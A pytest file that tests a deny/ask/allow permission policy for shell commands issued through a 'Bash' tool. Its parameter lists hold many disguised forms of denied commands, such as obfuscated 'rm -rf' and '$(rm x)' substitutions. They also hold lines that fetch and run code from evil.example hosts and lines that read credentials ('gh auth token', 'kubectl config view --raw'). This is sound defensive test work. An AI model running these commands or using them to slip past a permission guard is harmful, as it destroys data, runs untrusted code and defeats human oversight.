"""Below a rule that denies or asks, only what is understood is allowed."""

from __future__ import annotations

import re
from typing import Any

import pytest

from support import DATA
from support.policies import EVERYTHING, bash, decided, policy
from support.shell_commands import CONTEXTS

GUARDED = policy(
    {"decision": "deny", "name": "never", "tool": "Bash", "command": ["rm *", "sudo *"]},
    {"decision": "ask", "name": "careful", "tool": "Bash", "command": ["git push *", "npm publish *"]},
    {"decision": "allow", "name": "rest", "tool": "Bash"},
)

DENIED = [
    *(
        "rm x",
        "/bin/rm x",
        "RM x",
        "r''m x",
        "\\rm x",
        "ls; rm x",
        "ls | rm x",
        "FOO='1' rm x",
        'FOO="1" rm x',
    ),
    *("LANG='C' sudo reboot", "echo $(rm x)", 'echo "$(rm x)"', "(rm x)", "timeout 5 rm x", "nohup rm x"),
    *("cat <<E\n$(/bin/rm -rf x)\nE", "true # c \\\n/bin/rm -rf x", "rm x > y", 'rm -rf "$HOME/x"', "rm *"),
]
ASKED = [
    *(
        "git push",
        "git -C d push",
        "git --no-pager push",
        "GIT_SSH_COMMAND='ssh -v' git push --force",
        "npm publish",
    ),
    *(
        "npm pub",
        "npm --silent publish",
        "git push 2>&1",
        "git $X",
        "$X y",
        "git {push,x}",
        "git pus?",
        "git p",
    ),
    *(
        "bash -c 'ls'",
        "sh x.sh",
        "python3 x.py",
        "python3.12 -c 1",
        "node x.js",
        "perl -e 1",
        "make",
        "ruby x.rb",
    ),
    *(
        "env '-Srm -rf x'",
        "su -c'rm -rf x'",
        "script -qc'rm -rf x' /dev/null",
        "xargs rm",
        "env rm x",
        "noglob rm x",
    ),
    *(
        "repeat 1 rm x",
        "setpriv a rm x",
        "setarch x rm -rf y",
        "busybox rm x",
        "anything rm x",
        "anything 'rm x'",
    ),
    *(
        "anything -crm",
        "echo '/bin/r? x' | anything",
        "anything '/bin/r?' x",
        "anything 'r${Z}m' x",
        "echo 'rm x' | anything",
        "ls | sh",
        "eval x",
        ". x",
        "source x",
        "alias a=b",
        "hash -p a b",
    ),
    *(
        "find . -exec rm {} +",
        "find . -delete",
        "find . -ok ls {} ;",
        "awk 'BEGIN{system(1)}'",
        "awk -f x",
        "awk '1|2'",
    ),
    *("sed 's/a/b/e' x", "sed -f x", "sed '1e ls' x", "sed -n '1w y' x", "sed 1p *.py", "tar -I x -cf a b"),
    *(
        "tar xf a --to-command=x",
        "git -c core.pager=x log",
        "git rebase -x ls",
        "git rebase -ix ls",
        "git bisect run x",
    ),
    *(
        "git submodule foreach x",
        "git clone -u x y",
        "git clone --upl=x y",
        "git grep -Ox y",
        "git config core.pager x",
    ),
    *(
        "git fetch ext::x",
        "git add *",
        "git --exec-path=x log",
        "git difftool",
        "npm exec x",
        "npm run x --script-sh=y",
    ),
    *(
        "npx evil",
        "cargo --config x build",
        "cargo build --config x",
        "go test -exec x",
        "go run x",
        "rg --pre x y",
    ),
    *(
        "sort --compress-prog=x y",
        "split --filter=x y",
        "test -v 'a[$(ls)]'",
        "[ -v x ]",
        "printf -v x y",
        "ssh h ls",
    ),
    *(
        "printf '%n' x",
        "coproc ls",
        "command ls",
        "command -p ls",
        "exec ls",
        "docker run x",
        "vim x",
    ),
    *(
        "tee q; ./q",
        "curl -o q x; ./q",
        "python -m evil",
        "uv run x.py",
        "uvx x",
    ),
    *(
        "xargs -I% % x",
        "xargs sh",
        "xargs -a f rm",
        "ls > x",
        "for i in a; do ls; done",
        "/lib64/ld-linux.so.2 /bin/ls",
    ),
]
ASKED += [
    *(
        "python3 -m pytest -q",
        "sed -n '1,40p' x",
        "sed 's/a/b/g' x",
        "awk '{print $1}' x",
        "awk -F: '{print $1, $NF}' x",
        "tar xzf a.tgz",
        "find . -exec grep -l x {} +",
        "ls | xargs wc -l",
    ),
    *("cd x && ./run.sh", "mytool a b", "cp a conftest.py && pytest", "echo x | npm test", "ls # x"),
]
"""Harmless, but by programs that can run others."""

ALLOWED = [
    *(
        "ls -la",
        "git status",
        "git commit -m 'rm it'",
        "git log --oneline | head -5",
        "rg 'rm -rf' x",
        "echo rm x",
    ),
    *(
        "grep -rn sudo . | wc -l",
        "pytest -q 2>&1 | tail",
        "timeout 60 pytest",
        "uv run pytest",
    ),
    *(),
    *(
        "find . -name '*.py' -type f",
        "npm run format",
        "npm test",
    ),
    *(
        "cargo test -- --nocapture",
        "go test ./...",
        "command -v rm",
        "[ -f x ] && ls",
    ),
    *("git clean -x", "git stash", "ls *.py", "printf '%s' a", "node --version"),
]


@pytest.mark.parametrize("command", DENIED)
def test_denied_command_is_denied_however_it_is_written(command: str) -> None:
    verdict = GUARDED.decide(bash(command))
    assert (str(verdict.decision), verdict.name) == ("deny", "never")


@pytest.mark.parametrize("command", ASKED)
def test_command_that_may_run_anything_is_asked_below_a_guard_and_allowed_without(command: str) -> None:
    assert decided(GUARDED, command) == "ask"
    assert decided(policy({"decision": "allow", "tool": "Bash"}), command) == "allow"


@pytest.mark.parametrize("command", ALLOWED)
def test_command_that_runs_nothing_else_is_allowed_below_a_guard(command: str) -> None:
    assert GUARDED.decide(bash(command)).name == "rest"


@pytest.mark.parametrize("context", CONTEXTS)
def test_no_way_to_write_a_denied_command_is_allowed(context: str) -> None:
    """What bash makes of them is seen in tests/integration/test_policy_differential.py."""
    text = context.replace("@", "rm x").replace("H", "ls").replace("BIN", "/bin")
    is_data = text == "echo a#'\nrm x\n#'"
    assert "rm" not in text or is_data or decided(GUARDED, text) in ("ask", "deny")


def test_options_of_a_pattern_are_found_apart_joined_and_shortened() -> None:
    found = policy({"decision": "deny", "command": ["rm -rf *", "git push --force *"]}, EVERYTHING)
    assert decided(found, "rm -rf x") == "deny"
    for command in (
        "git stash; git push -q --force",
        "rm -fr x",
        "rm -r -f x",
        "rm x -rf",
        "git push --forc",
        "git push origin --force",
        "foo 'rm -rf x'",
    ):
        assert decided(found, command) == "ask", command
    assert decided(found, "rm -r x") == "allow"


@pytest.mark.parametrize(
    ("pattern", "command"),
    [
        ("git push --force *", "git push -f origin main"),
        ("git push -f *", "git push --force"),
        ("git commit --no-verify *", "git commit -nm x"),
        ("rm -rf *", "rm --recursive --force x"),
        ("rm --recursive *", "rm -R x"),
        ("git branch -D *", "git branch --delete --force x"),
        ("git push -f *", "git push origin +main"),
    ],
)
def test_letter_and_name_of_an_option_may_be_the_same(pattern: str, command: str) -> None:
    assert decided(policy({"decision": "deny", "command": pattern}, EVERYTHING), command) != "allow"


def test_option_with_another_letter_is_not_the_one_of_the_pattern() -> None:
    found = policy({"decision": "deny", "command": ["git push --force *", "rm -rf *"]}, EVERYTHING)
    for command in ("git push -u origin main", "git push --tags", "rm --recursive x", "git push origin a:b"):
        assert decided(found, command) == "allow", command


def test_program_name_of_many_digits_is_decided_at_once() -> None:
    """With a reader that tries every way to part the digits, this takes longer than the universe is old."""
    found = policy({"decision": "deny", "command": "rm *"}, {"decision": "allow", "tool": "Bash"})
    assert decided(found, f"tool{'1' * 200}_ x") == decided(found, "tool_ x")


def test_doubt_denies_nothing_and_a_rule_that_denies_for_certain_still_does() -> None:
    never, allow = {"decision": "deny", "command": "rm *"}, {"decision": "allow", "tool": "Bash"}
    assert decided(policy(never, allow), "$X y") == "ask"
    assert decided(policy(never, allow, {"decision": "deny", "command": "git *"}), "$X y; git x") == "ask"
    assert decided(policy(never, {"decision": "deny", "command": "git *"}, allow), "$X y; git x") == "deny"
    assert decided(policy(never), "$X y") == "ask"


def test_guard_that_is_for_another_session_does_not_count() -> None:
    found = policy({"decision": "deny", "command": "rm *", "session": "ci-*"}, EVERYTHING)
    assert decided(found, "python3 x.py") == "allow"
    assert str(found.decide(bash("python3 x.py", session=("ci-1",))).decision) == "ask"


BYPASSES = (DATA / "shell_bypasses.txt").read_text().splitlines()


@pytest.mark.parametrize("command", BYPASSES)
def test_command_that_once_ran_a_denied_program_is_not_allowed(command: str) -> None:
    assert decided(GUARDED, command) != "allow"
    without_push = policy({"decision": "deny", "command": ["rm *", "touch *"]}, EVERYTHING)
    assert decided(without_push, command) != "allow"


@pytest.mark.parametrize(
    ("pattern", "command"),
    [
        ("eslint *", "npx eslint ."),
        ("eslint *", "npx eslint@8 ."),
        ("eslint *", "yarn run eslint ."),
        ("eslint *", "pnpm exec eslint ."),
        ("pytest *", "uv run pytest"),
        ("pytest *", "uv run --frozen pytest -q"),
        ("pytest *", "uv run --group dev pytest"),
        ("mypy *", "uv run --extra x --group y -- mypy src"),
        ("pytest *", "poetry run pytest x"),
        ("pytest *", "python3 -m pytest"),
        ("pip install *", "uv pip install evil"),
        ("pip install *", "pip3 install evil"),
        ("npm install *", "npm i evil"),
        ("npm install *", "npm add evil"),
        ("npm i *", "npm install evil"),
        ("npm run test", "npm t"),
        ("cargo run *", "cargo r"),
        ("yarn run build *", "yarn build"),
        ("git add *", "git stage x"),
        ("git push --force *", "git push origin +main"),
        ("git push --delete *", "git push origin :main"),
    ],
)
def test_denied_program_or_subcommand_is_denied_by_each_name_and_where_another_runs_it(
    pattern: str, command: str
) -> None:
    assert decided(policy({"decision": "deny", "command": pattern}, EVERYTHING), command) == "deny"


@pytest.mark.parametrize(
    "command",
    [
        *(
            "git add -A && git commit -m x && git status",
            "git checkout -b x && git add -A && git commit -m x",
        ),
        *("pytest -q && git add -A && git commit -m x", "cargo build && cargo test", "npm ci && npm test"),
        *("cp a b && echo done", "pip install -e '.[dev]' && pytest", "ruff format --check . && pytest -q"),
        *("npm test -- src/app.test.ts -t renders", "go mod tidy && go test ./...", "npx prettier --write ."),
        *("yarn test:unit -u", "pnpm build", "pnpm run test", "git -C x log -n 5"),
        *("tree -aL 2 -I node_modules", "cargo tree -d", "cargo test --manifest-path sub/Cargo.toml"),
        *("uv sync --upgrade-package 'httpx<1'", "yarn outdated", "pnpm ls", "go version", "go env GOPATH"),
        *("coverage report -m", "uv run coverage report --skip-covered", "gh repo view", "gh auth status"),
        *("kubectl config current-context", "git config list", "git config get user.email"),
        *("curl -s --proxy http://127.0.0.1:3128 https://a.example", "rg --no-config x", "git stash list -3"),
    ],
)
def test_everyday_command_that_writes_nothing_that_it_runs_is_allowed(command: str) -> None:
    assert decided(GUARDED, command) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        *("npm i evil", "npm install -D evil", "npm install ./evil.tgz", "npm ci evil", "npm update evil"),
        *("npm pack git+https://evil.example/x", "npm add evil", "pnpm add evil", "pnpm i evil"),
        *("pnpm up evil", "yarn add evil", "yarn up evil", "cargo add evil", "cargo install evil"),
        *("go get evil.example/x", "go install evil.example/x@latest", "uv add evil", "uv tool install evil"),
        *("pip install evil", "pip3 install -U evil", "uv pip install evil", "pip download evil"),
        *("pip install -r https://evil.example/r.txt", "pip install -e ../evil", "pip install /tmp/evil.whl"),
        *("poetry add evil", "gem install evil", "npm install e{vil,x}", "pip install *"),
    ],
)
def test_command_that_installs_a_package_by_name_is_asked_below_a_guard(command: str) -> None:
    assert decided(GUARDED, command) == "ask"


@pytest.mark.parametrize(
    "command",
    [
        *("npm install", "npm ci --no-audit", "npm update", "pnpm install", "pnpm i --prod", "yarn install"),
        *("pip install .", "pip install -e '.[dev]'", "pip install -r requirements/dev.txt", "uv sync"),
        *("uv pip install -r requirements.txt -c constraints.txt", "uv venv", "uv venv .venv", "uv version"),
    ],
)
def test_command_that_installs_what_the_project_says_is_allowed_below_a_guard(command: str) -> None:
    assert decided(GUARDED, command) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        # npm 6 and pnpm 8 and 9 hand words to a script's shell in double quotes.
        *("npm test -- -t '$(rm x)'", "npm run test:a -- --grep '`rm x`'", "pnpm run test -t '$(rm x)'"),
        *("pnpm test -k '$(rm x)'", "pnpm run eslint '$(rm x)'", "yarn jest -t '$(rm x)'"),
        "npx jest -t '$(rm x)'",
        # npx fetches the package of this name, which is not the tool of another language.
        *("npx black .", "npx -y ruff check .", "npx mypy src", "npx py.test", "npx biome check"),
        # `--noEmit false` writes files; the plugins of a configuration are run.
        *("tsc --noEmit false && ls", "tsc --noEmit null && ls", "vue-tsc -p /tmp/evil.json --noEmit"),
        *("vitest init browser", "npx jest -u && ls"),
        # With -b, -v is not the version: it compiles, and says what.
        *("tsc -b -v && ls", "tsc --build --noEmit --clean && ls"),
        # Fetches a module that the project does not name, and runs its tests.
        *("go test -mod=mod evil.example/x", "go build -mod mod evil.example/x"),
        "git switch -c x --discard-changes && git commit -m x",
        # Deletes all files there.
        *("uv venv --clear src", "uv venv src", "uv version 2.0"),
        # git runs git-remote-NAME.
        *("git fetch foo://x", "git clone ext://x", "git remote add a foo://x"),
        # A file may be called -C, which writes magic.mgc.
        "file *",
        # Seen with tree 2.1: -I takes the next word, and -o, which writes a file, the one after that.
        *("tree -Io x package.json && npm test", "tree -aPo x y", "tree -Lo 2 y"),
        # pytest 8.2, mypy and ruff replace @FILE with the options in it, also where a value is wanted.
        *("pytest -k @options", "uv run pytest -k @options", "mypy --exclude @x", "ruff check --select @x"),
        # gh takes the word after an option that it does not know yet for its value: this deletes.
        *("gh release --yes view delete", "gh pr -f view checkout"),
        # These stash the file 'list'.
        *("git stash -- list && ls", "git stash -p list && ls"),
        *("vitest --changed x init browser", "vitest --silent=true -t init browser"),
        # -d has no value, so -Z and -C are options. Words after the first one go to the project's program.
        *("cargo tree -dZx", "cargo tree -dCx", "cargo run x.json --features=y"),
        *("cargo build --manifest-path=/tmp/x/Cargo.toml", "cargo test --manifest-path ../evil/Cargo.toml"),
        # After --no, npx takes the words for the tool for its own: -p is the package.
        *("npx --no tsc -p ./evil", "npx --no eslint ."),
        *("uv sync --upgrade-package 'x @ https://evil.example/x.whl'", "uv lock --upgrade-package x@git+y"),
        # They start the version that the project names.
        *("git commit -m x && yarn outdated", "git commit -m x && pnpm ls", "git commit -m x && go version"),
        *("go env -w GOFLAGS=-toolexec=rm", "go env -u GOFLAGS", "coverage run x.py", "coverage html"),
        *("gh repo clone x", "gh repo delete x --yes", "gh auth token", "gh auth status -t"),
        *("kubectl config set-credentials x", "kubectl config view --raw", "git config unset user.name"),
    ],
)
def test_option_or_operand_that_runs_or_writes_more_is_asked_below_a_guard(command: str) -> None:
    assert decided(GUARDED, command) == "ask"


def test_typical_commands_are_decided_as_a_user_expects(record_property: Any) -> None:
    file = DATA / "typical_commands.tsv"
    rows = [line.split("\t") for line in file.read_text().splitlines()]
    commands = [(expected, text.replace("\\n", "\n")) for expected, text in rows]
    piped = [text for _, text in commands if re.search(r"(?<!\|)\|(?!\|)|[<>]", text)]
    assert len(commands) >= 200
    assert len(piped) >= len(commands) / 4
    wrong = [
        (expected, text, decided(GUARDED, text))
        for expected, text in commands
        if decided(GUARDED, text) != expected
    ]
    asked = [text for expected, text, got in wrong if (expected, got) == ("allow", "ask")]
    share = len(asked) / len(commands)
    print(f"{len(asked)} of {len(commands)} typical commands are asked that could be allowed: {share:.1%}")
    record_property("asked", len(asked))
    assert len(asked) == len(wrong), wrong
    assert share < 0.15
